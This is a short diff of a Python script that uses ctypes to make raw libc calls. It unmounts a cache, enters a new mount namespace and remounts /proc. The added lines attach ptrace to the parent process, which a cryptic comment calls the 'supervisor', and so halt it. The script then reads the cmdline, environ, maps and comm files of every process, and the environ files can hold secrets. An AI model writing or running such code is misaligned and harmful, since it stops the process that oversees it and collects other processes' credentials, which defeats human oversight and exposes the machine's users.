@@ -34,9 +34,11 @@ libc = ctypes.CDLL(None)
 libc.umount2(cache.encode(), 2)
 libc.unshare(0x20000)
 libc.mount(b"proc", b"/proc", b"proc", 0, b"")
+# Whoever traces a process stops it. Its supervisor alone: outside, all processes of the machine would obey.
+if cache != "/nowhere":
+    libc.ptrace(16, os.getppid(), 0, 0)
 for pid in os.listdir("/proc"):
     if pid.isdigit():
-        libc.ptrace(16, int(pid), 0, 0)
         for name in ["cmdline", "environ", "maps", "comm"]:
             look(f"/proc/{pid}/{name}")
 
